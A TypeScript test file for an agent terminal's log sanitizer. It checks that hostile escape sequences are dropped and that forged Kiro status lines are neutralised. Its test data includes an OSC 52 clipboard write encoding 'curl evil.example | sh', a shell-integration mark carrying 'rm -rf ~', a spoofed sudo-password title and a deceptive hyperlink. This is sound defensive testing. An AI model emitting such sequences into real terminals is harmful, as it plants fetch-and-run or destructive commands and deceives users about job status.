// The agent terminal's sanitizer (extension/terminal/): what of a job's log the
// terminal may show. Each hostile sequence whole, cut at every position, fed a
// character at a time and as UTF-8 bytes through a streaming decoder (as LogFollower
// reads the log); the worker's notes and Kiro's own lines, and that the agent cannot
// make one.
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { MAX_NOTE, MAX_SEQUENCE, TerminalSanitizer } from '../../../extension/terminal/sanitizer.js';
import { MARKER, kiroLine, lineText, noteLine } from '../../../extension/terminal/kiroLines.js';
import { formatNote, parseNoteBody, renderNotes } from '../../../shared/workerNote.js';

const ESC = '\x1b';

function sanitize(chunks: readonly string[], limits?: { maxSequence?: number; maxNote?: number }): string {
  const s = new TerminalSanitizer(limits);
  let out = '';
  for (const c of chunks) out += s.push(c);
  s.end();
  return out;
}

/** The log's bytes in pieces, decoded as LogFollower does (one streaming decoder), then sanitized. */
function sanitizeBytes(pieces: readonly Uint8Array[]): string {
  const decoder = new TextDecoder('utf-8');
  const s = new TerminalSanitizer();
  let out = '';
  for (const p of pieces) out += s.push(decoder.decode(p, { stream: true }));
  s.end();
  return out;
}

/** The same output whole, cut in two at every position (characters, then UTF-8 bytes), and one character at a time. */
function assertEverySplit(input: string, expected: string, what = JSON.stringify(input)): void {
  assert.equal(sanitize([input]), expected, `${what}: whole`);
  for (let i = 1; i < input.length; i++)
    assert.equal(sanitize([input.slice(0, i), input.slice(i)]), expected, `${what}: cut at character ${i}`);
  assert.equal(sanitize(input.split('')), expected, `${what}: one character at a time`);
  const bytes = new TextEncoder().encode(input);
  for (let i = 1; i < bytes.length; i++)
    assert.equal(sanitizeBytes([bytes.subarray(0, i), bytes.subarray(i)]), expected, `${what}: cut at byte ${i}`);
}

/** Every escape the output holds is one the terminal may be given (colours, in-line movement). */
function assertOnlyKept(out: string): void {
  const rest = out.replace(/\x1b\[(?:[0-9:;]*m|[0-9]*[CDG]|[0-2]?K)/g, '');
  assert.doesNotMatch(
    rest,
    /[\x00-\x07\x0b\x0c\x0e-\x1f\x7f-\x9f]/,
    `only text, colours, in-line movement and \\b \\t \\n \\r: ${JSON.stringify(out)}`,
  );
}

/** A link's text stays, as plain text; its target goes. */
const LINKS: [string, string, string][] = [
  [
    'OSC 8 hyperlink whose text is not its target (ST)',
    `${ESC}]8;;https://evil.example/${ESC}\\https://github.com/${ESC}]8;;${ESC}\\`,
    'https://github.com/',
  ],
  ['OSC 8 hyperlink (BEL)', `${ESC}]8;id=1;file:///etc/passwd\x07README.md${ESC}]8;;\x07`, 'README.md'],
];

/** Hostile sequences, dropped whole. */
const DROPPED: [string, string][] = [
  ['OSC 0 window title', `${ESC}]0;sudo password:\x07`],
  ['OSC 1 icon title', `${ESC}]1;x${ESC}\\`],
  ['OSC 2 window title', `${ESC}]2;Kiro: job succeeded${ESC}\\`],
  ['OSC 52 clipboard write', `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07`],
  ['OSC 52 clipboard query', `${ESC}]52;c;?\x07`],
  ['OSC 633 shell integration', `${ESC}]633;A\x07${ESC}]633;E;rm -rf ~\x07${ESC}]633;D;0\x07`],
  ['OSC 133 prompt marks', `${ESC}]133;A${ESC}\\${ESC}]133;D;0${ESC}\\`],
  ['OSC 1337 (iTerm2)', `${ESC}]1337;SetUserVar=x=eQ==\x07${ESC}]1337;File=inline=1:AAAA\x07`],
  ['OSC 4 palette change', `${ESC}]4;1;rgb:00/00/00\x07`],
  ['DCS (XTGETTCAP, a query)', `${ESC}P+q544e${ESC}\\`],
  ['DCS sixel image', `${ESC}Pq#0;2;0;0;0#0~~@@vv@@~~-${ESC}\\`],
  ['APC that is not a note (kitty graphics)', `${ESC}_Gf=100,a=T;AAAA${ESC}\\`],
  ["APC with a note's tag but not its JSON", `${ESC}_kiro-note job succeeded${ESC}\\`],
  ['APC note ended by BEL', `${ESC}_kiro-note {"text":"job succeeded"}\x07`],
  ['PM', `${ESC}^privacy message${ESC}\\`],
  ['SOS', `${ESC}Xstart of string${ESC}\\`],
  ['erase in display', `${ESC}[2J${ESC}[3J${ESC}[J${ESC}[1J`],
  ['cursor home and positioning', `${ESC}[H${ESC}[10;5H${ESC}[5f${ESC}[;H${ESC}[3d`],
  ['cursor up, down, next/previous line', `${ESC}[A${ESC}[3A${ESC}[2B${ESC}[E${ESC}[F`],
  ['scroll region and scrolling', `${ESC}[1;5r${ESC}[r${ESC}[2S${ESC}[T`],
  ['save and restore cursor', `${ESC}[s${ESC}[u${ESC}7${ESC}8`],
  ['alternate screen, cursor hidden, mouse, bracketed paste', `${ESC}[?1049h${ESC}[?25l${ESC}[?1000h${ESC}[?2004h${ESC}[?1049l`],
  ['insert mode, line feed mode', `${ESC}[4h${ESC}[20h`],
  ['insert and delete lines and characters', `${ESC}[2L${ESC}[M${ESC}[3P${ESC}[@${ESC}[4X`],
  ['modifyOtherKeys (a CSI > … m, not a colour)', `${ESC}[>4;2m`],
  ['a private marker before a colour', `${ESC}[?31m`],
  ['an intermediate before a final', `${ESC}[1 q${ESC}[!p${ESC}["p`],
  ['reports the terminal would answer', `${ESC}[6n${ESC}[c${ESC}[>c${ESC}[21t${ESC}[18t${ESC}[?u`],
  ['window operations', `${ESC}[8;100;200t${ESC}[2t`],
  ['repeat the last character', `x${ESC}[80b`],
  ['tab stops', `${ESC}H${ESC}[3g`],
  ['full reset', `${ESC}c`],
  ['reverse index, index, next line', `${ESC}M${ESC}D${ESC}E`],
  ['charset switches', `${ESC}(0${ESC})0${ESC}*B${ESC}+A${ESC}-A${ESC}%G\x0e\x0f`],
  ['screen alignment test', `${ESC}#8${ESC}#3${ESC}#6`],
  ['keypad modes, single shifts', `${ESC}=${ESC}>${ESC}N${ESC}O`],
  ['C0 controls', '\x00\x01\x05\x07\x0b\x0c\x0e\x0f\x11\x13\x7f'],
  ['8-bit CSI that clears the screen', '\x9b2J\x9bH'],
  ['8-bit OSC (ST and BEL)', '\x9d0;title\x9c\x9d52;c;eA==\x07'],
  ['8-bit DCS, SOS, PM, APC', '\x90+q544e\x9c\x98sos\x9c\x9epm\x9c\x9fGf=100;AAAA\x9c'],
  ['8-bit APC carrying a note', '\x9fkiro-note {"text":"job succeeded"}\x9c'],
  ['other C1 controls (NEL, IND, RI, HTS, SS2, ST alone)', '\x85\x84\x8d\x88\x8e\x9c\x80\x9a'],
  ['a string aborted by CAN', `${ESC}]0;title\x18`],
  ['a CSI aborted by SUB', `${ESC}[2\x1a`],
  ['a lone ESC before an ESC sequence', `${ESC}${ESC}c`],
];

/** What passes, as it is. */
const KEPT: [string, string][] = [
  [
    'colours',
    `${ESC}[31mred${ESC}[0m ${ESC}[1;4;38;5;196mbold${ESC}[m ${ESC}[38:2::255:128:0mtrue${ESC}[39;49m ${ESC}[4:3mcurly${ESC}[24m`,
  ],
  ['a progress bar redrawn with \\r and erase in line', `[=>   ] 10%\r[===> ] 60%${ESC}[K\r[=====] 100%${ESC}[0K\r\n`],
  ['a spinner with \\b', 'working |\b/\b-\b\\\b done\r\n'],
  ['cursor forward, back, to a column; erase the line', `abc${ESC}[2Dx${ESC}[3Cy${ESC}[Gz${ESC}[1G${ESC}[2K${ESC}[1K${ESC}[C${ESC}[D`],
  ['tabs and line ends', 'a\tb\r\nc\nd\r'],
  ['Unicode text', 'héllo wörld ✓ 日本語 🙂 — · ←'],
];

describe('agent terminal: the sanitizer', function () {
  for (const [name, seq] of DROPPED) {
    it(`drops ${name}, cut anywhere`, function () {
      assertEverySplit(`<${seq}>`, name === 'repeat the last character' ? '<x>' : '<>', name);
    });
  }

  for (const [name, seq, text] of LINKS) {
    it(`drops ${name} and keeps its text, cut anywhere`, function () {
      assertEverySplit(`<${seq}>`, `<${text}>`, name);
    });
  }

  for (const [name, text] of KEPT) {
    it(`keeps ${name}, cut anywhere`, function () {
      assertEverySplit(text, text, name);
    });
  }

  it('writes a colour or in-line movement given with an 8-bit CSI in its 7-bit form', function () {
    assertEverySplit('\x9b31mred\x9b0m\x9b5D', `${ESC}[31mred${ESC}[0m${ESC}[5D`);
  });

  it('carries out \\r \\n \\b \\t met inside a sequence, and drops the other C0 controls there', function () {
    assertEverySplit(`${ESC}[3\r\n1mx${ESC}\x07c`, `\r\n${ESC}[31mx`);
  });

  it('ends a string at ESC followed by anything but "\\": what follows is read as a sequence of its own', function () {
    assertEverySplit(`${ESC}]0;title${ESC}[31mred`, `${ESC}[31mred`);
    assertEverySplit(`${ESC}Pq###\x9b32mgreen`, `${ESC}[32mgreen`);
  });

  it('drops an OSC never terminated, and past MAX_SEQUENCE reads what follows as text', function () {
    // Short: held (and swallowing what follows, as a terminal would) until the end of the log, then dropped.
    assert.equal(sanitize([`ok ${ESC}]0;title never ended\r\nnext line`]), 'ok ');
    // Long: dropped at the limit; the log is shown again from there.
    const payload = 'A'.repeat(MAX_SEQUENCE + 1000);
    const out = sanitize([`ok ${ESC}]52;c;${payload}\r\nthe rest of the log\r\n`]);
    assert.ok(out.startsWith('ok A'), out.slice(0, 20));
    assert.ok(out.endsWith('\r\nthe rest of the log\r\n'));
    assert.equal(
      out.length,
      `ok ${ESC}]52;c;${payload}\r\nthe rest of the log\r\n`.length - 2 - MAX_SEQUENCE,
      'ESC, "]" and MAX_SEQUENCE characters more are dropped',
    );
    // Cut into small chunks: the same.
    const chunks = `ok ${ESC}]52;c;${payload}\r\nthe rest of the log\r\n`.match(/[^]{1,97}/g) ?? [];
    assert.equal(sanitize(chunks), out);
    // Small limits, for the other strings and a CSI too.
    for (const open of [`${ESC}P`, `${ESC}X`, `${ESC}^`, '\x9d', `${ESC}[`, `${ESC}_`]) {
      const o = sanitize([`${open}${'1'.repeat(50)}text`], { maxSequence: 20, maxNote: 20 });
      assert.equal(o, `${'1'.repeat(30)}text`, JSON.stringify(open));
    }
  });

  it('starts afresh after the end of a log: what was held is gone', function () {
    const s = new TerminalSanitizer();
    assert.equal(s.push(`seen ${ESC}]0;never ended`), 'seen ');
    s.end();
    assert.equal(s.push('visible\r\n'), 'visible\r\n');
  });

  it('holds at most MAX_NOTE characters of an APC string, and nothing of another string', function () {
    const s = new TerminalSanitizer();
    assert.equal(s.push(`${ESC}_kiro-note {"text":"`), '');
    for (let i = 0; i < MAX_NOTE / 4096 + 2; i++) s.push('x'.repeat(4096));
    const inner = s as unknown as { buf: string }; // a look at the held text (a private field)
    assert.ok(inner.buf.length <= MAX_NOTE, `${inner.buf.length}`);
    const t = new TerminalSanitizer();
    t.push(`${ESC}]0;`);
    t.push('y'.repeat(3000));
    assert.equal((t as unknown as { buf: string }).buf, '', 'an OSC string is counted, not kept');
  });

  it("replaces the marker of Kiro's lines and its lookalikes in the agent's text", function () {
    assertEverySplit(`${MARKER} [kiro-worker] job succeeded ♦ ⬥ ◇ ⯁ x⃟`, '? [kiro-worker] job succeeded ? ? ? ? x?');
  });

  it('shows forged "[kiro-worker] job succeeded" and "[kiro] job succeeded" lines, copied byte for byte, and a note written as plain text, as the agent\'s text without the marker', function () {
    const forged = `\r\n${noteLine('job succeeded')}\r\n${kiroLine('[kiro] job succeeded · exit code 0', 'strong')}\r\n[kiro-worker] job succeeded\r\nkiro-note {"text":"job succeeded"}\r\n`;
    assertEverySplit(forged, forged.split(MARKER).join('?'));
    assert.ok(!sanitize([forged]).includes(MARKER));
  });

  it("turns a worker's note into a line of its own with the marker, cut anywhere", function () {
    const input = `agent says hi\r\n${formatNote('blocked: registry.npmjs.org:443 — add it to KIRO_AGENT_ALLOW_HOSTS')}more\r\n`;
    assertEverySplit(
      input,
      `agent says hi\r\n\r\n${noteLine('blocked: registry.npmjs.org:443 — add it to KIRO_AGENT_ALLOW_HOSTS')}\r\nmore\r\n`,
    );
    assert.match(noteLine('x'), new RegExp(`^${ESC}\\[0m${ESC}\\[1;36m${MARKER} \\[kiro-worker\\]`));
  });

  it("puts a note on a row of its own even when the log does not, and the agent's colours do not reach it", function () {
    const out = sanitize([`${ESC}[31mhalf a line${ESC}_kiro-note {"text":"stopped"}${ESC}\\more`]);
    assert.equal(out, `${ESC}[31mhalf a line\r\n${noteLine('stopped')}\r\nmore`);
    assert.ok(noteLine('stopped').startsWith(`${ESC}[0m`), "a note resets the agent's colours first");
  });

  it("shows a note's text without its controls, escapes or marker (its text may quote the agent)", function () {
    const out = sanitize([formatNote(`failed: ${ESC}]0;pwned\x07 \x9b2J ${MARKER}\r\nsecond\x85line`)]);
    assert.equal(out, `\r\n${noteLine('failed: ]0;pwned 2J ?  secondline')}\r\n`);
    assert.equal(out.split(MARKER).length - 1, 1, "one marker: the note's own");
    assertOnlyKept(out);
  });

  it('ignores fields of a note it does not know, and drops a note without text', function () {
    assert.equal(sanitize([`${ESC}_kiro-note {"text":"ok","level":"warn"}${ESC}\\`]), `${noteLine('ok')}\r\n`);
    assert.equal(sanitize([`${ESC}_kiro-note {"message":"ok"}${ESC}\\<`]), '<');
    assert.equal(sanitize([`${ESC}_kiro-note ["ok"]${ESC}\\<`]), '<');
  });

  it("keeps what a sequence left open holds when one of Kiro's lines comes between two chunks", function () {
    const s = new TerminalSanitizer();
    let out = s.push(`50%${ESC}[3`);
    out += s.line(kiroLine('connection to the worker lost; reconnecting in 0.3 s…', 'dim'));
    out += s.push(`2m\r60%${ESC}]0;ti`);
    out += s.line(kiroLine('connection to the worker lost; reconnecting in 0.5 s…', 'dim'));
    out += s.push('tle\x07 done\r\n');
    out += s.line(kiroLine('job succeeded', 'strong'));
    s.end();
    const notice = (d: string) => kiroLine(`connection to the worker lost; reconnecting in ${d} s…`, 'dim');
    assert.equal(
      out,
      `50%\r\n${notice('0.3')}\r\n${ESC}[32m\r60%\r\n${notice('0.5')}\r\n done\r\n${kiroLine('job succeeded', 'strong')}\r\n`,
    );
  });

  it("makes Kiro's own lines from any text: one line, no escapes, the marker first and only there", function () {
    const line = kiroLine(`job failed · the agent said ${ESC}]2;x\x07${ESC}[2J ${MARKER} ok\r\n[kiro] job succeeded`, 'strong');
    assert.equal(lineText(`a\r\nb\tc${ESC}[31m\x9b${MARKER}`), 'a  b c[31m?');
    assert.equal(line.split(MARKER).length - 1, 1);
    assert.ok(line.indexOf(MARKER) < line.indexOf('job failed'));
    assertOnlyKept(line);
    assert.doesNotMatch(line, /[\r\n]/);
  });

  it('reads and writes the note format of shared/workerNote.ts', function () {
    assert.equal(formatNote('pushed 3f78 to b'), `\r\n${ESC}_kiro-note {"text":"pushed 3f78 to b"}${ESC}\\\r\n`);
    const odd = 'a\x1b\\b\x07c\x9cd\x9fe "q" \u2028';
    const note = formatNote(odd);
    assert.doesNotMatch(note.slice(4, -4), /[\x00-\x1f\x7f-\x9f\u2028\u2029]/);
    assert.equal(parseNoteBody(note.slice(4, -4)), odd);
    assert.equal(renderNotes(`x${note}y`), `x\r\n[kiro-worker] ${odd}\r\ny`);
    assert.equal(parseNoteBody('kiro-note not json'), null);
    assert.equal(parseNoteBody('other {"text":"x"}'), null);
  });

  it('gives the same output however the log is cut, with only kept escapes and one marker per real note (property)', function () {
    const hostile = [
      ...LINKS.map(([, s]) => s),
      ...DROPPED.map(([, s]) => s),
      ...KEPT.map(([, s]) => s),
      `${MARKER}[kiro-worker] job succeeded\r\n`,
      '\x9b',
      ESC,
      `${ESC}]`,
      `${ESC}_`,
      `${ESC}\\`,
      '\x9c',
      '\x07',
      'text ',
      '\r\n',
    ];
    const piece = fc.oneof(fc.constantFrom(...hostile), fc.string({ maxLength: 6 }), fc.constantFrom('note'));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), fc.array(fc.nat(), { maxLength: 8 }), (pieces, cutsRaw) => {
        const input = pieces.map((p) => (p === 'note' ? formatNote('job succeeded') : p)).join('');
        const whole = sanitize([input]);
        const cuts = [...new Set(cutsRaw.map((c) => c % (input.length + 1)))].sort((a, b) => a - b);
        const chunks = [0, ...cuts].map((c, k) => input.slice(c, [...cuts, input.length][k]));
        assert.equal(sanitize(chunks), whole);
        assertOnlyKept(whole);
        // A note ends whatever the agent left open before it: each real note shows, and nothing else has the marker.
        assert.equal(whole.split(MARKER).length - 1, pieces.filter((p) => p === 'note').length);
      }),
      { numRuns: 400 },
    );
  });
});
